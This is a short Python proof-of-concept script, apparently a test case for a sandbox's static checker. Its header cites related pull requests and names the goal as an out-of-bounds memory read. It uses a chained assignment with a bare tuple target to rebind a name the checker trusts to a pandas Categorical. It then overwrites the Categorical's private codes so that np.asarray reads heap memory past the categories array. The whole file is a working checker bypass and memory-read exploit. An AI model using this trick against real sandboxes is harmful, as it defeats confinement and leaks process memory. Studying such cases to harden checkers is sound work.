# source: https://github.com/unslothai/unsloth/pull/9777 and https://github.com/unslothai/unsloth-zoo/pull/1113 (bindings made by the later targets of a chained assignment missed by a static checker); https://github.com/python-security/pyt/pull/164 (unpacking targets); pandas Categorical codes read unchecked by take_nd (sandexec README, "The static check",'s own Categorical family)
# family: private-name trust of 'x._x on x = C() assigned once' broken by a bare tuple target of a chained assignment (y = h, = cat,); x is then a pandas Categorical and x._codes its writable codes
# goal: codes past the categories: np.asarray() reads the heap beyond the 3-element categories array (out-of-bounds memory read)
import numpy as np
import pandas as pd


class Holder:
    def __init__(self):
        self._codes = np.zeros(3, dtype=np.int8)


cat = pd.Categorical(np.tile([7, 1007, 2007], 43)[:128])
h = Holder()                       # the binding the check trusts
y = h, = cat,                  # ...rebinding h to the Categorical
h._codes[:] = np.arange(128, dtype=np.int8)
vals = np.asarray(cat)
print("categories:", cat.categories.tolist())
print("values read at codes 3..20, past the 3-element categories array:", vals[3:20].tolist())
